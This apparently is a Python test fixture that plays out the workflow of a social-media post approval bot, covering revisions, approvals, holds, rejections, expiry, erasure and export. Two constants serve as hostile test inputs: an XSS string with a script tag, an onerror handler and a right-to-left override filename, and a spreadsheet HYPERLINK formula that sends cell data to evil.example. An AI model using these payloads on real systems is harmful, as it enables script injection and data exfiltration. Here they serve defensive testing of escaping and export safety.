"""A few busy weeks of an office: something of everything that can become of a proposal."""

from bot.approvals.concerns import answer_concern, finish_concern, raise_concern
from bot.approvals.holds import hold_everything, release_hold
from bot.approvals.models import ConcernOutcome, Kind, Proposal
from bot.approvals.propose import propose, revise, withdraw
from bot.approvals.publishing import Posted, posted, scheduled
from bot.approvals.review import (
    MY_WISH,
    Reason,
    approve,
    approve_with_edits,
    authorise_own,
    reject,
    request_changes,
    take_back,
)
from bot.duties.table import run_due
from bot.record.models import Content
from bot.reporting.export.choice import Choice
from bot.reporting.export.lines import lines
from bot.reporting.export.piece import whole
from tests.approvals.office import Office, draft

WALK = "Join us on Friday for a walk by the river.\nEverybody is welcome."
LATER_WALK = "Join us on Saturday for a walk by the river.\nEverybody is welcome."
SCOTLAND = "\U0001f3f4\U000e0067\U000e0062\U000e0073\U000e0063\U000e0074\U000e007f"
HOSTILE = f"</div><script>alert(1)</script><img src=x onerror=alert(2)> & \" ' invoice\u202egnp.exe {SCOTLAND}"
FORMULA = '=HYPERLINK("https://evil.example?x="&A1;"Click")'


async def live(office: Office) -> None:
    """Live it, from NS-1 to NS-6."""
    await _corrected_walk(office)
    await _taken_back(office)
    own = await _propose(office, "ruth", words="Our accounts for last year are out.")
    await office.do(lambda work: authorise_own(work, office.person("ruth"), own.id, 1))
    await _rejected(office)
    await _edited(office)
    await _forgotten(office)


async def _propose(office: Office, key: str, **more: object) -> Proposal:
    office.clock.pass_by(minutes=17)
    it = await office.do(lambda work: propose(work, office.person(key), draft(**more)))
    office.clock.pass_by(minutes=25)
    return it


async def _corrected_walk(office: Office) -> None:
    """NS-1: changed once, posted on two accounts, differing on one, worried about, corrected."""
    more = {"accounts": ("facebook", "x"), "link": "https://example.org/walk", "note": "Tom has the photographs."}
    it = await _propose(office, "amina", words=WALK, **more)
    reason = Reason(office.pack.reasons()[0].id, "Which Friday?")
    await office.do(lambda work: request_changes(work, office.person("ruth"), it.id, 1, reason))
    office.clock.pass_by(hours=1)
    better = draft(LATER_WALK, **more, variants={"x": "Saturday: a walk by the river. Everybody is welcome."})
    await office.do(lambda work: revise(work, office.person("amina"), it.id, 1, better))
    await office.do(lambda work: approve(work, office.person("ruth"), it.id, 2))
    office.clock.pass_by(hours=20)
    good = Posted("facebook", "https://facebook.example/1", LATER_WALK)
    bad = Posted("x", "https://x.example/2", "Sunday: a walk by the river. Everybody is welcome.")
    for note in (good, bad):
        await office.do(lambda work, note=note: posted(work, office.person("amina"), it.id, note))  # type: ignore[misc]
    office.clock.pass_by(hours=3)
    concern = await office.do(lambda work: raise_concern(work, office.person("tom"), it.id, "X says Sunday."))
    await office.do(lambda work: answer_concern(work, office.person("ruth"), concern.id, ConcernOutcome.CORRECT))
    office.clock.pass_by(minutes=30)
    await office.do(lambda work: finish_concern(work, office.person("amina"), concern.id))


async def _taken_back(office: Office) -> None:
    """NS-2: approved by the cover, queued, held, taken back, withdrawn."""
    it = await _propose(office, "tom", words="We are hiring a cook.", accounts=("linkedin",))
    await office.do(lambda work: approve(work, office.person("dev"), it.id, 1))
    at = office.clock.now().replace(hour=20)
    await office.do(lambda work: scheduled(work, office.person("amina"), it.id, "linkedin", at))
    await office.do(lambda work: hold_everything(work, office.person("ruth"), "Sad news: a colleague has died."))
    await office.do(lambda work: take_back(work, office.person("ruth"), it.id, 1, "The budget is not agreed."))
    await office.do(lambda work: release_hold(work, office.person("ruth")))
    await office.do(lambda work: withdraw(work, office.person("tom"), it.id))


async def _rejected(office: Office) -> None:
    """NS-4: hostile words, rejected on no clause."""
    more = {"kind": Kind.COMMENT, "target": "https://example.org/news", "answers": FORMULA}
    it = await _propose(office, "tom", words=HOSTILE, accounts=("facebook",), **more)
    reason = Reason(MY_WISH, "+1 for trying, but no.")
    await office.do(lambda work: reject(work, office.person("ruth"), it.id, 1, reason))


async def _edited(office: Office) -> None:
    """NS-5: approved with the Director's edits."""
    it = await _propose(office, "tom", words="Our café opens at nine.")
    edited = draft("Our café opens at ten.")
    await office.do(lambda work: approve_with_edits(work, office.person("ruth"), it.id, 1, edited))


async def _forgotten(office: Office) -> None:
    """NS-6: nobody decided it in time."""
    await _propose(office, "amina", words="-2 degrees tonight: our door is open. أهلا وسهلا", accounts=("x",))
    office.clock.pass_by(days=15)
    await office.do(run_due)


async def number(office: Office, number: int) -> Proposal:
    """Return a proposal by its number."""
    found = await office.store.read(lambda unit: unit.get(Proposal, number=number))
    assert found is not None
    return found


async def erase(office: Office, words: str) -> str:
    """Empty the salt and the text of everything that holds the words, as an erasure does; return one commitment."""
    now = office.clock.now()

    def forget(unit: object) -> str:
        rows = [row for row in unit.find(Content) if row.text and words in row.text]  # type: ignore[attr-defined]
        for row in rows:
            unit.change(Content, {"commit": row.commit}, salt=None, text=None, erased_at=now)  # type: ignore[attr-defined]
        return str(rows[0].commit)

    return await office.store.write(forget)


async def exported(office: Office, how: object = lines, choice: Choice | None = None) -> str:
    """Return an export as text."""
    make = how
    return await office.look(lambda work: whole(make(work, choice or Choice())))  # type: ignore[operator]
